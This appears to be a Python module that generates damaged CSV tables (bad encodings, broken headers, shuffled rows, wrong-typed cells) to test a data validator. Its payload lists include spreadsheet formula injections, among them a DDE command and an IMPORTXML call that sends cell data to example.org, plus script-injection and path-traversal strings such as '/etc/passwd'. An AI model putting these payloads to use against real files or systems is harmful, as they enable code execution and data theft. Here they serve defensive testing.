"""Ways to damage a table: each takes a table and a generator and returns the damaged file and the lines it touched.

A mutation that does not apply to a table (no date column, say) returns None. `rule` is a part of the rule that every
failure it gives must name. `visible=False` marks damage that leaves a well-formed table with other, possible content:
only the recorded hash can tell.
"""

import csv
import io
import string
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from itertools import zip_longest
from pathlib import Path

from innodivide.data import frozen
from innodivide.data.schema import foreign_keys


@dataclass(frozen=True)
class Table:
    """A table as it stands in its file: cells as text; `rows` without the header; row i is line i + 2."""

    name: str
    described: dict
    header: list[str]
    rows: list[list[str]]

    @classmethod
    def read(cls, folder: Path, name: str) -> "Table":
        described = frozen.resource(name, folder)
        with (folder / described["path"]).open(encoding="utf-8", newline="") as file:
            header, *rows = csv.reader(file)
        return cls(name, described, header, rows)

    @property
    def fields(self) -> list[dict]:
        return self.described["schema"]["fields"]

    def text(self, rows=None, header=None, **style) -> str:
        return as_csv([header or self.header, *(self.rows if rows is None else rows)], **style)

    def with_cell(self, row: int, column: int, value: str) -> tuple[bytes, set[int]]:
        """Return the file with one cell changed, and its line."""
        rows = [list(r) for r in self.rows]
        assert rows[row][column] != value, "the mutation changes nothing"
        rows[row][column] = value
        return self.text(rows).encode(), {row + 2}


def as_csv(rows: list[list[str]], **style) -> str:
    out = io.StringIO()
    csv.writer(out, **{"lineterminator": "\n", **style}).writerows(rows)
    return out.getvalue()


@dataclass(frozen=True)
class Mutation:
    name: str
    change: Callable
    visible: bool = True
    rule: str = ""


MUTATIONS: dict[str, Mutation] = {}


def register(name: str, change: Callable, visible: bool = True, rule: str = "") -> None:
    assert name not in MUTATIONS
    MUTATIONS[name] = Mutation(name, change, visible, rule)


def whole(name: str, change: Callable, line: int | None = None, rule: str = "") -> None:
    """Register a mutation of the whole file: `change(table, rng)` returns its new text or bytes."""

    def apply(table, rng):
        new = change(table, rng)
        return new.encode() if isinstance(new, str) else new, {line} - {None}

    register(name, apply, rule=rule)


def header(name: str, names: Callable, cells: Callable = lambda row: row) -> None:
    """Register a mutation of the header, by `names(header, rng)`, and of each row."""
    whole(name, lambda t, rng: t.text(list(map(cells, t.rows)), names(list(t.header), rng)), 1, "the header is ")


def line(name: str, change: Callable, rule: str = "", exact: bool = True, **style) -> None:
    """Register a mutation of one line: `change(line, rng)` returns the lines in its place."""

    def apply(table, rng):
        lines = table.text(**style).split("\n")
        at = int(rng.integers(1, len(lines) - 1))
        lines[at : at + 1] = change(lines[at], rng)
        return "\n".join(lines).encode(), {at + 1} if exact else set()

    register(name, apply, rule=rule)


def rows(name: str, change: Callable, visible: bool = True, rule: str = "") -> None:
    """Register a mutation of the rows: `change(rows, at, rng)` changes them; `at` is one of them."""

    def apply(table, rng):
        changed, at = [list(r) for r in table.rows], int(rng.integers(len(table.rows)))
        change(changed, at, rng)
        touched = [i + 2 for i, (new, old) in enumerate(zip_longest(changed, table.rows)) if new != old]
        return (table.text(changed).encode(), set(touched[:1] if visible else ())) if touched else None

    register(name, apply, visible, rule)


def cells(name: str, wanted: Callable[[dict], bool], change: Callable, visible: bool = True, rule: str = "") -> None:
    """Register a mutation of one cell: in a random column that is `wanted`, by `change(value, field, rng)`.

    `change` returns the new value, or None where this cell offers no occasion.
    """

    def apply(table: Table, rng):
        columns = [i for i, f in enumerate(table.fields) if wanted(f)]
        for column in rng.permutation(columns):
            for row in rng.permutation(len(table.rows))[:20]:
                value = change(table.rows[row][column], table.fields[column], rng)
                if value is not None and value != table.rows[row][column]:
                    return table.with_cell(int(row), int(column), value)
        return None

    register(name, apply, visible, rule)


def pick(rng, values):
    return values[int(rng.integers(len(values)))]


# The file as a whole


def at_a_random_place(table, insert: bytes, rng) -> bytes:
    raw = table.text().encode()
    at = int(rng.integers(len(raw) - 1))
    return raw[:at] + insert + raw[at:]


def cut(table, rng) -> bytes:
    raw = table.text().encode()
    return raw[: int(rng.integers(1, len(raw) - 1))].rstrip(b"\n")


LINE_ENDS = "lines end with LF"
NO_UTF_8, CUT_OFF = [b"\xff", b"\xc3\x28", b"\xe9", b"\xed\xa0\x80"], "the last line ends with a line break"
OTHER_FILES = (
    b"\n",
    b"<!DOCTYPE html>\n<html><body>503 Service Unavailable</body></html>\n",
    b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
)
register("missing_file", lambda t, rng: None if t.name == "source" else (None, set()), rule="the file exists")
whole("empty_file", lambda t, rng: b"", 1, CUT_OFF)
whole("another_file", lambda t, rng: pick(rng, OTHER_FILES), 1, "the header is ")
whole("header_without_rows", lambda t, rng: t.text([]), rule="the table has rows")
whole("byte_order_mark", lambda t, rng: "\ufeff" + t.text(), 1, "without a byte order mark")
whole("utf_16", lambda t, rng: t.text().encode(pick(rng, ["utf-16", "utf-16-le", "utf-16-be"])), rule="UTF-8 text")
whole("windows_1252", lambda t, rng: t.text().encode("cp1252", errors="replace"))  # nothing changes where all is ASCII
whole("byte_that_is_no_utf_8", lambda t, rng: at_a_random_place(t, pick(rng, NO_UTF_8), rng), rule="UTF-8 text")
whole("nul_byte", lambda t, rng: at_a_random_place(t, b"\0", rng), rule="without NUL bytes")
whole("nul_bytes_at_the_end", lambda t, rng: t.text() + "\0" * 512, rule="without NUL bytes")  # after a crash
whole("crlf", lambda t, rng: t.text(lineterminator="\r\n"), 1, LINE_ENDS)
whole("cr_only", lambda t, rng: t.text(lineterminator="\r"), 1, LINE_ENDS)
whole("mixed_line_ends", lambda t, rng: at_a_random_place(t, b"\r\n", rng), rule=LINE_ENDS)
whole("no_line_break_at_the_end", lambda t, rng: t.text()[:-1], rule=CUT_OFF)
whole("cut_within_a_line", cut)
whole("other_delimiter", lambda t, rng: t.text(delimiter=pick(rng, [";", "\t", "|"])), 1, "the header is ")
whole("quotes_around_everything", lambda t, rng: t.text(quoting=csv.QUOTE_ALL))
whole("apostrophes_for_quotes", lambda t, rng: t.text(quotechar="'", quoting=csv.QUOTE_ALL), 1, "the header is ")
whole(
    "escaped_quotes", lambda t, rng: t.text(doublequote=False, escapechar="\\")
)  # the same where no cell needs quotes
whole("accents_decomposed", lambda t, rng: unicodedata.normalize("NFD", t.text()))  # as some systems store it
line("stray_carriage_return", lambda old, rng: [old.replace(",", ",\r", 1)], LINE_ENDS)
line("blank_line", lambda old, rng: ["", old], "cells in a row (found 0)")
whole("blank_line_at_the_end", lambda t, rng: t.text() + "\n", rule="cells in a row (found 0)")
line("git_conflict", lambda old, rng: ["<<<<<<< HEAD", old, "=======", old], "no unsettled merge")
line("quote_not_closed", lambda old, rng: [old[:-1]], "well-formed CSV", exact=False, quoting=csv.QUOTE_ALL)
line("text_after_a_closed_quote", lambda old, rng: [old + "x"], "well-formed CSV", quoting=csv.QUOTE_ALL)


# Header and columns


def renamed(names: list[str], rng) -> list[str]:
    names[int(rng.integers(len(names)))] = pick(rng, ["", "value ", "Wert", "Unnamed: 0", "<b>"])
    return names


header("header_doubled_name", lambda names, rng: [names[0], *names[:1], *names[2:]])
header("header_renamed", renamed)
header("header_in_capitals", lambda names, rng: [n.upper() for n in names])
header("columns_swapped", lambda names, rng: names[::-1], lambda row: row[::-1])
header("column_added", lambda names, rng: [*names, "extra"], lambda row: [*row, "1"])
header("index_column_added", lambda names, rng: ["", *names], lambda row: ["0", *row])
header("column_missing", lambda names, rng: names[:-1], lambda row: row[:-1])
whole("header_missing", lambda t, rng: t.text().split("\n", 1)[1], 1, "the header is ")
whole("header_again", lambda t, rng: t.text([t.header, *t.rows]), 2)


# Rows


def swap_columns(rows, at, rng):
    """Under an unchanged header: seen where the types differ, else only by the hash."""
    first, second = rng.choice(len(rows[0]), 2, replace=False)
    for row in rows:
        row[first], row[second] = row[second], row[first]


def swap_cells(rows, at, rng):
    column = int(rng.integers(len(rows[0])))
    other = next((i for i, row in enumerate(rows) if row[column] != rows[0][column]), 0)
    rows[0][column], rows[other][column] = rows[other][column], rows[0][column]


def sort_alone(rows, at, rng):
    """What a spreadsheet does when one column is sorted without the others."""
    column = int(rng.integers(len(rows[0])))
    for row, value in zip(rows, sorted(row[column] for row in rows)):
        row[column] = value


def cut_at_a_line_end(rows, at, rng):
    del rows[max(at, 1) :]


rows("row_too_long", lambda rows, at, rng: rows[at].append(""), rule="cells in a row")
rows("row_too_short", lambda rows, at, rng: rows[at].pop(), rule="cells in a row")
rows("row_twice", lambda rows, at, rng: rows.append(rows[at]))
rows("cut_at_a_line_end", cut_at_a_line_end, visible=False)
rows("row_gone", lambda rows, at, rng: rows.pop(at) if len(rows) > 1 else None, visible=False)
rows("rows_reversed", lambda rows, at, rng: rows.reverse(), visible=False)
rows("cells_of_two_columns_swapped", swap_columns, visible=False)
rows("cells_of_two_rows_swapped", swap_cells, visible=False)
rows("column_sorted_alone", sort_alone, visible=False)


# Cells


def typed(*kinds):
    return lambda f: f["type"] in kinds


def limit(name):
    return lambda f: name in f.get("constraints", {})


def any_column(f):
    return True


def free_text(f):
    """Tell whether a column takes any words: no list of values, and no pattern or an open one (an address, a name)."""
    limits = f.get("constraints", {})
    pattern = limits.get("pattern", "\\S")
    return f["type"] == "string" and "enum" not in limits and ("\\S" in pattern or "[^" in pattern)


def constant(*values):
    """Write one of these values."""
    return lambda value, field, rng: pick(rng, values)


def filled(change):
    """Apply a change only to a cell that is not empty."""
    return lambda value, field, rng: change(value, rng) if value else None


WORDS = ("twenty", "many", "12 apples", "true", "2021-04-30", "3 km", "12m", "59%", "5 €", "12 (p)", "12*", "5¹", "5e")
SPELLINGS = ("NaN", "nan", "NA", "N/A", "n/a", "null", "NULL", "None", "inf", "-inf", "Infinity", "+Infinity", "1e999")
NOT_KNOWN = ("-", ".", "..", ":", "?", "#N/A", "#DIV/0!", "#REF!", "n.d.", "missing", "<NA>", "nicht verfügbar")
THOUSANDS = ("1,234", "5924,5", "1 234", "1'234", "1\u00a0234", "1\u202f234", "1.234.567", "1,234.5")
DIGITS = ("0x10", "1_000", "1e3", "1E-400", "+5", "007", "-0", "½", "Ⅳ", "−5", "5-", "٢٩", "９", "9" * 19, "9" * 900)
DAYS = ("30/04/2021", "04/30/2021", "2021/04/30", "20210430", "2021-4-3", "30 April 2021", "44316", "2021-W17-5")
NO_DAYS = ("2021-13-01", "2021-00-10", "2021-01-32", "9999-12-31", "0001-01-01", "1899-12-31", "2100-01-01")
TIMES = ("2021-04-30T00:00", "2021-04-30 00:00:00", "2021-04-30Z", "2021-04-30+02:00")
WRONG_TYPE = {  # what a column of a type does not hold
    "integer": (*WORDS, *SPELLINGS, *NOT_KNOWN, *THOUSANDS, *DIGITS, "29.0", "1.5"),
    "number": (*WORDS, *SPELLINGS, *NOT_KNOWN, *THOUSANDS, *DIGITS, "-0.0", ".5", "5."),
    "boolean": ("TRUE", "True", "1", "0", "yes", "FALSE", "t", "wahr", "-1"),
    "date": (*DAYS, *NO_DAYS, *TIMES),
}
NOT_IN_THE_CALENDAR = ("2021-02-30", "2023-02-29", "2021-04-31", "1900-02-29")
SCRIPTS = {"arabic": 0x660, "devanagari": 0x966, "wide": 0xFF10, "bold": 0x1D7CE, "thai": 0xE50}
FORMULAS = (
    '=HYPERLINK("https://example.org","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
)
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u202e\u2066\u061c\u180e\u00a0\u2028\u2029\u202f\u3000\U000e0041\ufffd"
CONTROL = "".join(map(chr, [1, 7, 8, 9, 10, 11, 12, 13, 27, 127, 133, 0x93]))  # 0x93: wrongly decoded text
BLANKS = (" ", "\u00a0", "\u3000", "\t")
HTML = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "${7*7}", "[x](javascript:alert(1))")
PATHS = ("../x", "..", "/etc/passwd", "a/b", "..\\x", "C:\\x", "~", "%2e%2e%2f", "x\0y", "con", "-rf")


def inserted(characters: str):
    """Put one of the characters somewhere in a cell."""

    def change(value, rng):
        at = int(rng.integers(len(value) + 1))
        return value[:at] + pick(rng, characters) + value[at:]

    return filled(change)


def in_other_script(value: str, rng):
    digits = [i for i, c in enumerate(value) if c in string.digits]
    if not digits:
        return None
    at, zero = pick(rng, digits), SCRIPTS[pick(rng, sorted(SCRIPTS))]
    return value[:at] + chr(zero + int(value[at])) + value[at + 1 :]


def lookalike(value: str, rng):
    """A Cyrillic or Greek letter in the place of a Latin one."""
    alike = str.maketrans("ABCEHIKMNOPTXaceopx", "АВСЕНІКМΝОРТХасеорх")
    return value.translate(alike) if value != value.translate(alike) else None


def another_digit(value: str, rng):
    """A figure that could as well be true: the last digit changed, still within any range."""
    return value[:-1] + {"0": "1", "9": "8"}.get(value[-1], str(int(value[-1]) - 1))


for kind, values in WRONG_TYPE.items():
    cells(f"no_{kind}", typed(kind), constant(*values))
cells("impossible_date", typed("date"), constant(*NOT_IN_THE_CALENDAR), rule="a day of the calendar")
cells("below_the_range", limit("minimum"), lambda v, f, rng: f"{f['constraints']['minimum'] - int(rng.integers(1, 9))}")
cells("above_the_range", limit("maximum"), lambda v, f, rng: f"{f['constraints']['maximum'] + int(rng.integers(1, 9))}")
cells("value_taken_out", limit("required"), filled(lambda v, rng: ""))
cells("unknown_code", limit("enum"), constant("other", "unknown", "XX", "leader;strong", "-7"))
cells("code_in_other_case", limit("enum"), filled(lambda v, rng: v.swapcase()))
cells("pattern_broken", limit("pattern"), filled(lambda v, rng: f"{v}{pick(rng, ['|', '%', '(x)', '^'])}"))
cells("formula", any_column, constant(*FORMULAS, "\t=1+1", "\r=1+1", ' ="a"'))
cells("blank_before", any_column, filled(lambda v, rng: " " + v))
cells("blank_after", any_column, filled(lambda v, rng: v + pick(rng, BLANKS)))
cells("only_blanks", any_column, constant(*BLANKS, "   "))
cells("control_character", any_column, inserted(CONTROL))
cells("invisible_character", any_column, inserted(INVISIBLE))
cells("huge_cell", any_column, constant("x" * 5_000, "1" * 60_000, "é" * 140_000))
cells("accent_apart", typed("string"), filled(lambda v, rng: v[:1] + pick(rng, ["\u0301", "\u0308"]) + v[1:]))
cells("digit_of_another_script", lambda f: not free_text(f), filled(in_other_script))
cells("letter_of_another_script", lambda f: typed("string")(f) and not free_text(f), filled(lookalike))
cells("web_page_code", lambda f: not free_text(f), constant(*HTML))
cells("web_page_code_in_text", free_text, constant(*HTML), visible=False)
cells("path_for_a_code", limit("pattern"), constant(*PATHS))
cells("figure_changed", typed("number"), filled(another_digit), visible=False)
cells("figure_taken_out", lambda f: not limit("required")(f), filled(lambda v, rng: ""), visible=False)


# Keys and references


def reference(name: str, change: Callable) -> None:
    """Register a mutation of a cell that refers to another table."""

    def apply(table, rng):
        columns = sorted(
            {table.header.index(field) for key in foreign_keys(table.described) for field in key["fields"]}
        )
        places = [(i, c) for c in columns for i, r in enumerate(table.rows) if r[c]]
        if not places:
            return None
        row, column = pick(rng, places)
        value = change(table.rows[row][column], rng)
        return None if value == table.rows[row][column] else table.with_cell(row, column, value)

    register(name, apply)


def further_sources_badly_listed(table, rng):
    if "more_source_ids" not in table.header:
        return None
    column, row = table.header.index("more_source_ids"), int(rng.integers(len(table.rows)))
    one = table.rows[row][table.header.index("source_id")]
    wrong = [f"{one};", f";{one}", f"{one};;{one}", f"{one}, {one}", f"{one}; {one}"]
    return table.with_cell(row, column, pick(rng, wrong))


def value_of_a_unique_column_repeated(table, rng):
    columns = [i for i, f in enumerate(table.fields) if limit("unique")(f)]
    if not columns or len(table.rows) < 2:
        return None
    column = pick(rng, columns)
    return table.with_cell(len(table.rows) - 1, column, table.rows[0][column])


reference("path_for_a_reference", lambda value, rng: pick(rng, PATHS))
reference("reference_to_nothing", lambda value, rng: pick(rng, ["XX", "QQ99", "NO_SUCH_SOURCE", value + "x"]))
reference("reference_in_other_case", lambda value, rng: value.swapcase())
register("further_sources_badly_listed", further_sources_badly_listed)
register("value_of_a_unique_column_repeated", value_of_a_unique_column_repeated)
